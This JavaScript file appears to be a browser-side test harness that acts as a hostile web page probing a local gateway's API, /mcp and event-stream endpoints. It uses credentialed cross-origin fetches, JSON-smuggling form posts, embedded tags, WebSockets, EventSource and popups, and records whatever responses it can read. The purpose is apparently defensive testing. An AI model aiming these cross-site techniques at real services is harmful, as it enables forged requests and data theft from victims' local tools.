// A web page that attacks a gateway in the browser of somebody who visits it. Runs in Chromium.

/** Sends requests in all the ways in which a page can. Resolves to descriptions of everything that it could read. */
globalThis.attack = async ({ url, requests }) => {
  const read = []
  const isReadable = (frame) => {
    try {
      return Boolean(frame.contentDocument?.body?.textContent)
    } catch {
      return false
    }
  }

  const json = { 'content-type': 'application/json' }
  const text = { 'content-type': 'text/plain' }
  const kinds = [
    { mode: 'cors', headers: json },
    { mode: 'cors', headers: text },
    { mode: 'no-cors', headers: text },
    { mode: 'no-cors', redirect: 'manual' },
  ]
  const fetches = requests.flatMap(({ method, path, body }) =>
    kinds.flatMap((kind) =>
      ['include', 'omit'].map((credentials) => ({ method, path, body, ...kind, credentials })),
    ),
  )
  await Promise.all(
    fetches.map(async ({ path, body, ...init }) => {
      const sent = fetch(url + path, body ? { ...init, body: JSON.stringify(body) } : init)
      const response = await soon(sent.catch(() => undefined))
      if (response && !response.type.startsWith('opaque')) {
        read.push(`${init.method} ${path} ${response.status}`)
      }
    }),
  )

  for (const { path, body = {} } of requests.filter(({ method }) => method === 'POST')) {
    for (const enctype of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
    ]) {
      const frame = add('iframe', { name: `target${document.forms.length}` })
      const form = add('form', { action: url + path, method: 'POST', enctype, target: frame.name })
      // A form sends NAME=VALUE: together, they are JSON.
      const isEmpty = Object.keys(body).length === 0
      const name = JSON.stringify(body).replace(/\}$/, `${isEmpty ? '' : ','}"x":"`)
      form.append(Object.assign(document.createElement('input'), { name, value: '"}' }))
      const loaded = settled(frame)
      form.submit()
      await soon(loaded)
      if (isReadable(frame)) read.push(`form ${path}`)
    }
  }

  for (const { path } of requests.filter(({ method }) => method === 'GET')) {
    for (const tag of ['img', 'script', 'link', 'iframe', 'object', 'embed', 'video']) {
      const address = { link: 'href', object: 'data' }[tag] ?? 'src'
      const element = add(tag, { [address]: url + path, rel: 'stylesheet' })
      // A stream never ends.
      if (path !== '/api/events') await soon(settled(element))
      if (tag === 'iframe' && isReadable(element)) read.push(`frame ${path}`)
      element.remove()
    }
  }

  for (const path of ['/mcp', '/api/events']) {
    const socket = new WebSocket(url.replace('http', 'ws') + path)
    const events = new EventSource(url + path, { withCredentials: true })
    if (await soon(opened(socket))) read.push(`WebSocket ${path}`)
    if (await soon(opened(events))) read.push(`EventSource ${path}`)
    socket.close()
    events.close()
  }
  const popup = window.open(url)
  if (popup) {
    // An empty page can be read until the other one has loaded.
    await soon(until(() => !canRead(popup) || popup.document.body?.textContent))
    popup.postMessage({ requests }, '*')
    if (canRead(popup)) read.push('window')
    popup.close()
  }
  return read
}

/** Puts a page into a frame. Resolves once it has loaded, or was refused. */
globalThis.embed = (src, attributes = {}) => {
  const frame = add('iframe', { id: 'embedded', ...attributes })
  const loaded = settled(frame)
  frame.src = src
  return loaded
}

function canRead(other) {
  try {
    return Boolean(other.document)
  } catch {
    return false
  }
}

async function until(isDone) {
  while (!isDone()) await new Promise((resolve) => setTimeout(resolve, 20))
}

function add(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes)
  document.body.append(element)
  return element
}

function settled(element) {
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve())
    element.addEventListener('error', () => resolve())
  })
}

function opened(source) {
  return new Promise((resolve) => {
    source.addEventListener('open', () => resolve(true))
    source.addEventListener('error', () => resolve(false))
  })
}

/** Some answers never come. */
function soon(promise) {
  return Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 3_000))])
}
